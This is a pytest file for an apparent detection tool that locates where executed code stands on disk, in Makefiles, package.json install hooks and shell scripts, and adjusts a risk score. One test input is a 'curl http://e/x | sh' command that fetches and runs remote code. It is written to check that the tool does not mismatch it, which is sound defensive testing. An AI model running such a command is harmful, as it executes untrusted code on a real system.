"""Where on disk the text of a detection stands."""

import json
import os

import pytest

from flycatcher.core.detection import detect, reviewable
from flycatcher.core.execution import Execution, Process
from flycatcher.sources.context.written import written_in

CODE = "import os; os.system('make check')"


def made(folder, *argv):
    make = Process(pid=2, exe="/usr/bin/make", argv=argv or ("make",), cwd=str(folder))
    return Execution(
        argv=("python3", "-c", CODE), ancestry=(Process(pid=3, exe="/bin/dash", argv=("sh", "-c", "x")), make)
    )


def test_a_recipe_stands_in_its_makefile(tmp_path):
    (tmp_path / "Makefile").write_text(
        "all:\n\techo 1\n\n\tpython3 -c \"import os; \\\n\t  os.system('make check')\"\n"
    )
    assert written_in(made(tmp_path), [CODE]) == f"{tmp_path}/Makefile:4"


def test_what_make_puts_in_is_left_open(tmp_path):
    recipe = "\trm -f $@-t && sed -e 's|A|$(prefix)|g' < $< > $@-t && mv $@-t $@\n"
    (tmp_path / "GNUmakefile").write_text("x: y\n" + recipe)
    given = "rm -f x.h-t && sed -e 's|A|/usr/local|g' < y.in > x.h-t && mv x.h-t x.h"
    assert written_in(made(tmp_path), [given]) == f"{tmp_path}/GNUmakefile:2"
    assert written_in(made(tmp_path), ["rm -f x.h-t && curl http://e/x | sh"]) == ""


def test_the_options_of_make_say_which_file(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "rules").write_text(f'all:\n\tpython3 -c "{CODE}"\n')
    assert written_in(made(tmp_path, "make", "-C", "sub", "-f", "rules"), [CODE]) == f"{tmp_path}/sub/rules:2"


def test_an_install_hook_stands_in_its_package(tmp_path):
    package = tmp_path / "package.json"
    package.write_text(json.dumps({"name": "x", "scripts": {"postinstall": f'node -e "{CODE}"'}}, indent=1))
    execution = Execution(argv=("node", "-e", CODE), env={"npm_package_json": str(package)})
    assert written_in(execution, [CODE]) == f"{package}:4"


def test_a_text_of_a_script_stands_in_the_script(tmp_path):
    (tmp_path / "build.sh").write_text(f'#!/bin/sh\nset -e\npython3 -c "{CODE}"\n')
    shell = Process(pid=2, exe="/bin/dash", argv=("sh", "build.sh"), cwd=str(tmp_path))
    assert written_in(Execution(argv=("python3",), ancestry=(shell,)), [CODE]) == f"{tmp_path}/build.sh:3"


@pytest.mark.parametrize("texts", [[None], ["a b"], [CODE, None], ["print('something else')"]])
def test_what_is_not_seen_or_too_short_stands_nowhere(tmp_path, texts):
    (tmp_path / "Makefile").write_text(f'all:\n\tpython3 -c "{CODE}"\n\ta b\n')
    assert written_in(made(tmp_path), texts) == ""


def test_a_pipe_in_the_place_of_a_file_is_not_opened(tmp_path):
    os.mkfifo(tmp_path / "Makefile")
    assert written_in(made(tmp_path), [CODE]) == ""


def test_the_record_says_where_and_the_score_follows(tmp_path):
    (tmp_path / "Makefile").write_text(f'all:\n\tpython3 -c "{CODE}"\n')
    found = detect(made(tmp_path))
    assert found is not None
    told = reviewable(found, written_in(found.execution, [CODE]))
    assert told.execution.context["text.written"] == f"{tmp_path}/Makefile:2"
    assert told.risk.score == found.risk.score - 5
    assert [reason.text for reason in told.risk.reasons][-1] == f"the code stands in {tmp_path}/Makefile:2"
    assert told.id == found.id
